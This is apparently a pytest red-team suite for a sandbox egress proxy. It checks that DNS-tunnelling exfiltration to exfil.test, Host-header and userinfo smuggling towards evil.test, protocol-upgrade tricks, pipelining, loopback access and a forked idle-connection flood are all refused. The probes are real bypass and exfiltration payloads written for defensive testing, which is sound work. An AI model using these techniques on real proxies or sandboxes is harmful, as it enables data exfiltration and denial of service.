"""Red team against the egress proxy, from inside a real sandbox that has a policy: the
attacker controls the sandbox's code, speaks raw bytes to the forwarder on 127.0.0.1:3128
and tries to reach what the policy does not allow. Each probe has a control: the same bytes
towards an allowed host succeed, so a broken probe cannot pass as "blocked".

 1. DNS tunnelling: data as a name (CONNECT <data>.exfil.test) is refused before any lookup
    (the request log shows no address for it); the sandbox has no resolver and no route for
    UDP/53 of its own.
 2. CONNECT to a port the policy does not list.
 3. Host header mismatch: plain HTTP to an allowed host naming another in Host; inside a
    terminated tunnel, a Host of another host; userinfo in the absolute URL (allowed@denied).
 4. HTTP/2 prior knowledge, h2 by ALPN inside a terminated tunnel, WebSocket and h2c
    upgrades; a second, pipelined request after the first (one request per connection).
 5. The host's own loopback: the sandbox's 127.0.0.1 is its own (the API host's port is not
    there), and the server's port through the proxy is refused.
"""

from __future__ import annotations

import json
import pathlib
import textwrap

import pytest

import support
from egress.apihost import api_host, egress_server  # noqa: F401 (api_host: a fixture)

SECRET_VALUE = "sk-redteam-value-0f1e2d3c"

pytestmark = pytest.mark.bwrap_only(reason="egress is offered on the bwrap tier only: a gvisor create with egress is "
                                    "refused (422) until the proxy's forwarder runs over gVisor's netstack")

RAW = textwrap.dedent('''
    import socket, ssl
    def raw(data, tls_host=None, alpn=None, after=None):
        """Send bytes to the forwarder; with tls_host, CONNECT first, then TLS (trusting the
        sandbox's bundle), then `after`. Returns what came back, as text."""
        s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
        try:
            s.sendall(data)
            if tls_host is None:
                return s.makefile("rb").read().decode("latin-1")
            head = b""
            while b"\\r\\n\\r\\n" not in head:
                chunk = s.recv(4096)
                if not chunk:
                    return head.decode("latin-1")
                head += chunk
            if not head.startswith(b"HTTP/1.1 200"):
                return head.decode("latin-1")
            context = ssl.create_default_context()
            if alpn:
                context.set_alpn_protocols(alpn)
            t = context.wrap_socket(s, server_hostname=tls_host)
            chosen = t.selected_alpn_protocol()
            t.sendall(after)
            return f"ALPN={chosen}\\n" + t.makefile("rb").read().decode("latin-1")
        finally:
            s.close()
''')


@pytest.fixture(scope="module")
def server(image_source, api_host):
    hosts = {"api.test": "127.0.0.1", "other.test": "127.0.0.1"}
    with egress_server(image_source, api_host, hosts) as own:
        yield own


@pytest.fixture(scope="module")
def sandbox(server, api_host, isolation):
    with server.client(timeout=300) as client:
        r = client.put("/v1/secrets/API_KEY", json={"value": SECRET_VALUE, "hosts": ["api.test"]})
        assert r.status_code == 200
        ports = f"{api_host.https_port},{api_host.http_port}"
        created = support.create(client, isolation=isolation, egress={
            "allow": [f"api.test:{ports}", f"other.test:{ports}", f"127.0.0.1/32:{ports}"], "secrets": ["API_KEY"]})
        support.ok(support.execute(client, created["id"], RAW))
        yield client, created["id"]
        client.delete(f"/v1/sandboxes/{created['id']}")


def run(sandbox, code: str) -> str:
    client, sandbox_id = sandbox
    return support.stream_text(support.ok(support.execute(client, sandbox_id, code)))


def send(sandbox, data: bytes, **kwargs) -> str:
    return run(sandbox, f"print(raw({data!r}, **{kwargs!r}))")


def log_records(server) -> list[dict]:
    path = server.state_dir / "egress" / "requests.log"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def test_dns_tunnelling_through_the_proxy(sandbox, server, api_host):
    leak = "mzxw6ytboi-secret-chunk-0001.exfil.test"
    answer = send(sandbox, f"CONNECT {leak}:443 HTTP/1.1\r\nHost: {leak}:443\r\n\r\n".encode())
    assert answer.startswith("HTTP/1.1 403") and "not on this sandbox's egress allow list" in answer
    record = support.wait_for(lambda: [r for r in log_records(server) if r.get("host") == leak], 30)[-1]
    assert record["decision"] == "refused" and "address" not in record  # never resolved
    control = send(sandbox, f"CONNECT api.test:{api_host.https_port} HTTP/1.1\r\nHost: api.test\r\n\r\n".encode(),
                   tls_host="api.test", after=b"GET /dns-control HTTP/1.1\r\nHost: api.test:%d\r\n\r\n" % api_host.https_port)
    assert "200 OK" in control
    own_dns = run(sandbox, textwrap.dedent('''
        import socket
        for target in (("127.0.0.53", 53), ("10.0.0.1", 53), ("8.8.8.8", 53)):
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                u.sendto(b"\\x00" * 12, target)
                print("SENT", target)
            except OSError as exc:
                print("BLOCKED", target, exc.errno)
    '''))
    # 127.0.0.53 is the sandbox's own loopback: nothing listens; the others have no route
    assert "BLOCKED ('10.0.0.1', 53) 101" in own_dns and "BLOCKED ('8.8.8.8', 53) 101" in own_dns


def test_connect_to_a_port_not_listed(sandbox, api_host):
    answer = send(sandbox, b"CONNECT api.test:22 HTTP/1.1\r\nHost: api.test:22\r\n\r\n")
    assert answer.startswith("HTTP/1.1 403") and "port 22" in answer
    answer = send(sandbox, b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n")
    assert answer.startswith("HTTP/1.1 403")


def test_host_header_mismatch(sandbox, api_host):
    seen = len(api_host.seen)
    plain = send(sandbox, (f"GET http://other.test:{api_host.http_port}/ HTTP/1.1\r\n"
                           f"Host: api.test:{api_host.http_port}\r\n\r\n").encode())
    assert plain.startswith("HTTP/1.1 403") and "does not match" in plain
    denied = send(sandbox, (f"GET http://api.test:{api_host.http_port}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n").encode())
    assert denied.startswith("HTTP/1.1 403") and "does not match" in denied
    userinfo = send(sandbox, (f"GET http://api.test:{api_host.http_port}@evil.test/ HTTP/1.1\r\n"
                              f"Host: evil.test\r\n\r\n").encode())
    assert userinfo.startswith("HTTP/1.1 403") and "evil.test" in userinfo
    inner = send(sandbox, f"CONNECT api.test:{api_host.https_port} HTTP/1.1\r\nHost: api.test\r\n\r\n".encode(),
                 tls_host="api.test", after=f"GET / HTTP/1.1\r\nHost: other.test:{api_host.https_port}\r\n\r\n".encode())
    assert "403" in inner and "does not match" in inner
    assert len(api_host.seen) == seen
    control = send(sandbox, (f"GET http://api.test:{api_host.http_port}/ok HTTP/1.1\r\n"
                             f"Host: api.test:{api_host.http_port}\r\n\r\n").encode())
    assert control.startswith("HTTP/1.1 200")


def test_http2_and_upgrade_tricks(sandbox, api_host):
    seen = len(api_host.seen)
    preface = send(sandbox, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    assert preface.startswith("HTTP/1.1 400")
    h2 = send(sandbox, f"CONNECT api.test:{api_host.https_port} HTTP/1.1\r\nHost: api.test\r\n\r\n".encode(),
              tls_host="api.test", alpn=["h2", "http/1.1"],
              after=f"GET /alpn HTTP/1.1\r\nHost: api.test:{api_host.https_port}\r\n\r\n".encode())
    assert h2.startswith("ALPN=http/1.1") and "200 OK" in h2
    for upgrade in ("websocket", "h2c"):
        answer = send(sandbox, (f"GET http://api.test:{api_host.http_port}/ws HTTP/1.1\r\nHost: api.test:{api_host.http_port}\r\n"
                                f"Connection: Upgrade\r\nUpgrade: {upgrade}\r\nSec-WebSocket-Key: eA==\r\n"
                                "Sec-WebSocket-Version: 13\r\n\r\n").encode())
        assert answer.startswith("HTTP/1.1 403") and "upgrades" in answer
        inner = send(sandbox, f"CONNECT api.test:{api_host.https_port} HTTP/1.1\r\nHost: api.test\r\n\r\n".encode(),
                     tls_host="api.test", after=(f"GET /ws HTTP/1.1\r\nHost: api.test:{api_host.https_port}\r\n"
                                                 f"Connection: Upgrade\r\nUpgrade: {upgrade}\r\n\r\n").encode())
        assert "403" in inner and "upgrades" in inner
    assert [s["path"] for s in api_host.seen[seen:]] == ["/alpn"]
    pipelined = send(sandbox, (f"GET http://api.test:{api_host.http_port}/first HTTP/1.1\r\nHost: api.test:{api_host.http_port}\r\n\r\n"
                               f"GET http://evil.test/second HTTP/1.1\r\nHost: evil.test\r\n\r\n").encode())
    assert pipelined.startswith("HTTP/1.1 200") and pipelined.count("HTTP/1.1 ") == 1
    assert [s["path"] for s in api_host.seen[seen:]] == ["/alpn", "/first"]


def test_the_hosts_loopback_is_not_the_sandboxs(sandbox, api_host, server):
    out = run(sandbox, textwrap.dedent(f'''
        import socket
        for port in ({api_host.http_port}, {server.port}):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=5).close()
                print("CONNECTED", port)
            except OSError as exc:
                print("REFUSED", port, exc.errno)
    '''))
    assert f"REFUSED {api_host.http_port} 111" in out and f"REFUSED {server.port} 111" in out
    answer = send(sandbox, f"GET http://127.0.0.1:{server.port}/v1/sandboxes HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\n\r\n".encode())
    assert answer.startswith("HTTP/1.1 403")


HOLD = textwrap.dedent('''
    import os, select, socket, time
    def hold(procs, each):
        """Forked processes that each open `each` connections to the proxy's socket and keep
        them; prints how many the server kept open (silent) and how many it answered/closed."""
        r, w = os.pipe()
        for _ in range(procs):
            if os.fork() == 0:
                held, answered = [], 0
                for _ in range(each):
                    s = socket.socket(socket.AF_UNIX)
                    s.settimeout(5)
                    try:
                        s.connect("/run/sandbox-egress/proxy.sock")
                        held.append(s)
                    except OSError:
                        answered += 1
                time.sleep(3)
                poller = select.poll()
                for s in held:
                    poller.register(s, select.POLLIN)
                ready = len(poller.poll(0))
                os.write(w, f"{len(held) - ready} {ready + answered}\\n".encode())
                time.sleep(3600)
                os._exit(0)
        lines = b""
        while lines.count(b"\\n") < procs:
            lines += os.read(r, 4096)
        counts = [tuple(map(int, line.split())) for line in lines.decode().split("\\n") if line]
        print("SILENT", sum(c[0] for c in counts), "ANSWERED", sum(c[1] for c in counts))
''')


def open_descriptors(server) -> int:
    return len(list((pathlib.Path("/proc") / str(server.proc.pid) / "fd").iterdir()))


@pytest.mark.slow
def test_thousands_of_idle_connections_leave_the_others_served(sandbox, server, api_host, isolation):
    """The issue's attack: a cell forks processes that hold thousands of idle connections to its
    proxy socket. The server keeps 64 (the cap; the rest are answered 429 and closed), another
    user of the server creates, lists and executes meanwhile, and deleting the hostile sandbox
    gives its descriptors back. (The cap's and the reserve's controls, which remove them, are in
    tests/egress/test_proxy_limits.py.)"""
    client, _ = sandbox
    before = open_descriptors(server)
    hostile = support.create(client, isolation=isolation, egress={"allow": ["api.test"]})
    try:
        out = support.stream_text(support.ok(support.execute(client, hostile["id"], HOLD + "hold(6, 800)")))
        silent, answered = (int(x) for x in out.split()[1::2])
        assert (silent, silent + answered) == (64, 4800), out
        held = open_descriptors(server)
        assert held - before < 64 + 40, (before, held)  # its 64, the sandbox's own channels
        other = support.create(client, isolation=isolation)
        try:
            assert client.put(f"/v1/sandboxes/{other['id']}/files/a.txt", content=b"x").status_code == 201
            assert "a.txt" in client.get(f"/v1/sandboxes/{other['id']}/files").text
            assert "42" in support.stream_text(support.ok(support.execute(client, other["id"], "print(6 * 7)")))
        finally:
            client.delete(f"/v1/sandboxes/{other['id']}")
    finally:
        assert client.delete(f"/v1/sandboxes/{hostile['id']}").status_code in (200, 204)
    assert support.wait_for(lambda: open_descriptors(server) <= before + 5, 30), (before, open_descriptors(server))
